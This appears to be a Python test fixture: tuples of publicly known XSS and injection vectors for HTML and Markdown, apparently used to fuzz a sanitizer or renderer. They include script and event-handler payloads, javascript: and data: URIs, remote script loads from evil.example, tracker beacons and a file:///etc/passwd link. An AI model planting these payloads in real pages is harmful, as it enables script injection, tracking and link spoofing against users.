"""
Ways to make a page run something, fetch something or look like something else, as they are publicly known: in HTML, in
Markdown, and in what lies between the two. Written down by their pattern, for the tests of prose.
"""

RUN = "alert(1)"
HTML = (
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", "<script src=//evil.example/x.js></script>", f"<script\n>{RUN}</script\n>",
    f"<<script>{RUN}//<</script>", f"<script/x>{RUN}</script>", f"</p><script>{RUN}</script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>", f"<img src=x onerror='{RUN}'//", f"<img/src=x/onerror={RUN}>", f'<img """><script>{RUN}</script>">',
    f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><set attributeName=href to=javascript:{RUN}>",
    f"<svg><foreignObject><iframe src=javascript:{RUN}></foreignObject></svg>", f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>", f"<math href=javascript:{RUN}>x</math>",
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<body onload={RUN}>", f"<body background=javascript:{RUN}>", f"<iframe src=javascript:{RUN}>", f"<iframe srcdoc='<script>{RUN}</script>'>",
    f"<object data=javascript:{RUN}>", f"<embed src=javascript:{RUN}>", "<applet code=x>", f"<base href=javascript:{RUN}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    f"<link rel=stylesheet href=javascript:{RUN}>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=prefetch href=//evil.example/x>",
    "<style>@import '//evil.example/x.css';</style>", f"<style>*{{background:url(javascript:{RUN})}}</style>", f"<div style='background:url(javascript:{RUN})'>",
    f"<div style='width:expression({RUN})'>", "<div style='position:fixed;inset:0'>cover</div>", f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>", f"<marquee onstart={RUN}>",
    f"<video><source onerror={RUN}>", f"<video poster=javascript:{RUN}>", f"<audio src=x onerror={RUN}>", f"<keygen autofocus onfocus={RUN}>",
    f"<form action=javascript:{RUN}><button>x</button></form>", f"<form><button formaction=javascript:{RUN}>x</button></form>",
    f"<isindex action=javascript:{RUN}>", f"<a href=javascript:{RUN}>x</a>", f"<a href='jAvAsCrIpT:{RUN}'>x</a>", f"<a href=' javascript:{RUN}'>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>", f"<a href='java\nscript:{RUN}'>x</a>", f"<a href='&#106;avascript:{RUN}'>x</a>",
    f"<a href='javascript&colon;{RUN}'>x</a>", f"<a href='\x01javascript:{RUN}'>x</a>", f"<a href=data:text/html,<script>{RUN}</script>>x</a>",
    f"<a href=vbscript:{RUN}>x</a>", f"<a onmouseover={RUN}>x</a>", f"<a href=x target=_blank onclick={RUN}>x</a>", f"<xss onpointerenter={RUN}>x</xss>",
    f"<xss id=x tabindex=1 onfocus={RUN}>", "<img src=//tracker.example/x.gif>", "<img srcset='//tracker.example/x 1x'>", "<picture><source srcset=//tracker.example/x></picture>",
    "<image href=//tracker.example/x>", "<table background=//tracker.example/x>", "<bgsound src=//tracker.example/x>", "<video src=//tracker.example/x>",
    f"<!--><img src=x onerror={RUN}>-->", f"<!--[if IE]><script>{RUN}</script><![endif]-->", f"<![CDATA[<script>{RUN}</script>]]>", f"<?xml-stylesheet href='javascript:{RUN}'?>",
    f"<title><img src=x onerror={RUN}></title>", f"<textarea><img src=x onerror={RUN}></textarea>", f"<template><script>{RUN}</script></template>",
    f"<plaintext><script>{RUN}</script>", f"<xmp><img src=x onerror={RUN}></xmp>", f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>", f"<portal src=javascript:{RUN}>",
    f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>", f"<img src='x' alt='`><img src=x onerror={RUN}>`'>",
)  # fmt: skip
MARKDOWN = (
    f"[x](javascript:{RUN})", f"[x](JaVaScRiPt:{RUN})", f"[x](java&#115;cript:{RUN})", f"[x](javascript&colon;{RUN})", f"[x](javascript&#58;{RUN})",
    f"[x](  javascript:{RUN})", f"[x](<javascript:{RUN}>)", f"[x](\\javascript:{RUN})", f"[x](vbscript:{RUN})", "[x](data:text/html;base64,PHNjcmlwdD4=)",
    f"[x](data:text/html,<script>{RUN}</script>)", f"<javascript:{RUN}>", f"<data:text/html,{RUN}>", f"[x][y]\n\n[y]: javascript:{RUN}", f"[x]: javascript:{RUN}\n\n[x]",
    f'[x](https://example.com "onmouseover={RUN}")', f"[x](https://example.com '\"><img src=x onerror={RUN}>')", f'[x](https://example.com" onmouseover="{RUN})',
    f"![x](javascript:{RUN})", "![x](https://tracker.example/x.png)", "![x](//tracker.example/x.png)", f"![x](data:image/svg+xml,<svg onload={RUN}>)",
    f'![x" onerror="{RUN}](picture:1)', f'![x](picture:1 "onerror={RUN}")', f"![![x](javascript:{RUN})](https://tracker.example/x)", f"[![x](//tracker.example/x)](javascript:{RUN})",
    f"`<script>{RUN}</script>`", f"```\n<script>{RUN}</script>\n```", f'```"><img src=x onerror={RUN}>\nx\n```', f"    <script>{RUN}</script>", f"> <script>{RUN}</script>",
    f"- <script>{RUN}</script>", f"| <img src=x onerror={RUN}> | b |\n|---|---|\n| <script>{RUN}</script> | d |", f"# <script>{RUN}</script>", f"**<img src=x onerror={RUN}>**",
    f'https://example.com/"onmouseover="{RUN}', f"https://example.com/<script>{RUN}</script>", f"javascript://example.com/%0a{RUN}", f"a@b.c<script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"\\<script>{RUN}\\</script>", f'<a\nhref="javascript:{RUN}">x</a>', "[x](file:///etc/passwd)",
    "[x](//evil.example)", "[x](\\\\evil.example)", "[x](blob:https://example.com/1)", "[x](filesystem:https://example.com/1)", f"[x](intent://x#Intent;S.u={RUN};end)", "[x](ftp://evil.example/x)",
    "[\u202ehttps://bank.example](https://evil.example)", "[x](https://user:word@evil.example)", "[x](\u2028javascript:alert(1))", "[x](\x00javascript:alert(1))",
)  # fmt: skip
VECTORS = (*HTML, *MARKDOWN)
PIECES = (
    *VECTORS, "**", "*", "_", "`", "```", "~~", "[", "](", ")", "![", "](picture:", "<", ">", "</", "/>", '"', "'", "&", "&amp;", "&#x", ";", "\\", "\n", "\n\n", "    ",
    "- ", "1. ", "> ", "# ", "| a | b |\n|---|---|\n", "---\n", "https://example.com/", "a@example.com", "www.example.com", "javascript:", "data:", "//", "on", "=", "x", "words ",
    "\u200b", "\u202e", "\x00", "\t", "é", "漢", "😀", "<!--", "-->", "<![CDATA[", "]]>", "<?", "?>", "</p>", "</a>", "<p>", "<a href=", "<img src=",
)  # fmt: skip
